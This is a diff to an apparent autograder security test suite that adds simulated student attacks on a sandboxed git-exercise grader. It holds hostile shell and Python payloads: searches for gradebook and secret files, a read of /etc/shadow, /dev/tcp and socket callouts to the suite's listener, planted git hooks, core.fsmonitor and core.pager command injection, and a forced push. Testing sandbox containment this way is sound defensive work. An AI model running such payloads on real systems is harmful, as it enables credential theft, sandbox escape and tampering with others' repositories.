@@ -427,3 +427,104 @@ GENERIC = {
     "history_and_frames": HISTORY_AND_FRAMES,
     "kitchen_sink": IMPORT_HIJACK + SHELL_PATH + IPYTHON_HOOKS + HISTORY_AND_FRAMES + FORGE_RESULT,
 }
+
+
+
+# ----------------------------------------------------------------- 06_git
+# 06_git's answers are strings the judge runs itself (bash commands, a file
+# written into the repository, a workflow whose steps it runs), in a fresh
+# bubblewrap jail holding only the scratch copy of the repository. A student
+# who knows that writes commands that look for the course, the gradebook and
+# the secret, try the network, try to write into the workbook package (the
+# one folder of the grader the jail shows, read-only), plant git hooks, and put
+# the same into the Python file and the workflow steps the checks run. Where a
+# visible check shows what the command printed (q12-q14), anything found would
+# reach the feedback. `{port}` is the suite's listener. As for 00's attacks,
+# nothing here can damage more than a test folder and the package's one file
+# the suite removes.
+PKG = "$(python -c 'import os, workbook; print(os.path.dirname(workbook.__file__))')"
+
+GIT_LOOK = r"""for f in $(find / \( -name '*06_git*' -o -name 'gradebook.db*' -o -name secret -o -name '*.jsonl' \
+    -o -name nbgrader_config.py \) -not -path '/proc/*' -not -path '*/site-packages/*' 2>/dev/null | head -n 5)
+do echo "LEAK""ED $f"; done   # (site-packages: the Python environment, public; nbgrader ships test fixtures)
+head -n 1 /etc/shadow 2>/dev/null | sed 's/^/LEAK''ED /'
+(exec 3<>/dev/tcp/127.0.0.1/{port}) 2>/dev/null && echo "CONNEC""TED tcp"
+git ls-remote http://127.0.0.1:{port}/daon-churn.git >/dev/null 2>&1 && echo "CONNEC""TED git"
+pkg=PKG; [ -d "$pkg" ] && touch "$pkg/_pwned_by_attack.py" 2>/dev/null && echo "DO""NE package"
+ls /proc | grep -c '^[0-9]'""".replace("PKG", PKG)
+
+GIT_HOOKS = r"""pkg=PKG; [ -d "$pkg" ] || pkg=/nonexistent
+mkdir -p .git/hooks
+printf '#!/bin/sh\ntouch "%s/_pwned_by_attack.py"\n' "$pkg" > .git/hooks/post-commit
+cp .git/hooks/post-commit .git/hooks/post-checkout && chmod +x .git/hooks/post-commit .git/hooks/post-checkout
+git config core.fsmonitor "touch '$pkg/_pwned_by_attack.py'; false"
+git config core.pager "touch '$pkg/_pwned_by_attack.py'; cat"
+git commit -q --allow-empty -m 'Plant hooks'""".replace("PKG", PKG)
+
+GIT_TRAIN = '''"""Imported by the checks' test run (in the jail): tries to get out."""
+import os
+import socket
+
+try:
+    socket.create_connection(("127.0.0.1", {port}), timeout=3).sendall(b"LEAK from the judge's jail")
+    print("CONNEC" "TED")
+except OSError as e:
+    print("blocked", type(e).__name__)
+try:
+    import workbook
+    open(os.path.join(os.path.dirname(workbook.__file__), "_pwned_by_attack.py"), "w").close()
+    print("DO" "NE")
+except (ImportError, OSError):
+    pass
+
+
+def train(rows, labels, lr=0.1, epochs=200, l2=0.0, patience=None):
+    """Not a resolution.
+
+    l2 is the strength of the L2 penalty on the weights (not on the bias).
+    With patience=k, training stops once the loss has not improved for k epochs.
+    """
+    return [0.0] * len(rows[0]), 0.0
+'''
+
+GIT_WORKFLOW = r"""
+on:
+  push:
+    branches: [main]
+  pull_request:
+jobs:
+  test:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@v4
+      - uses: actions/setup-python@v5
+        with:
+          python-version: "3.11"
+      - run: pip install -r requirements-dev.txt
+      - run: |
+          (exec 3<>/dev/tcp/127.0.0.1/{port}) 2>/dev/null && echo "CONNEC""TED" || true
+          pkg=PKG; [ -d "$pkg" ] && touch "$pkg/_pwned_by_attack.py" 2>/dev/null || true
+          pytest || true
+""".replace("PKG", PKG)
+
+GIT_ATTACKS = {
+    "git_commands": dict(answers={
+        "q1_identity": GIT_LOOK, "q2_stage": GIT_LOOK, "q5_merge": GIT_LOOK, "q10_bisect": GIT_LOOK,
+        "q11_secret": GIT_HOOKS, "q12_pickaxe": GIT_LOOK, "q13_follow": GIT_LOOK, "q14_blame": GIT_LOOK,
+        "q15_release": GIT_LOOK + "\ngit push origin 'refs/heads/*:refs/heads/*' --force",
+    }),
+    "git_files": dict(answers={"q6_resolved": GIT_TRAIN, "q17_workflow": GIT_WORKFLOW}),
+}
+
+
+def git_answers(spec: dict, port: int) -> dict[str, str]:
+    """An attack's answer cells: each string assigned to the answer's names
+    (q6's cell holds q6_resolved and the command that concludes the merge)."""
+    out = {}
+    for gid, text in spec["answers"].items():
+        text = text.replace("{port}", str(port))
+        code = f"{gid} = {text!r}"
+        if gid == "q6_resolved":
+            code += "\nq6_finish = 'git add churn/train.py && git commit --no-edit'"
+        out[gid] = code
+    return out
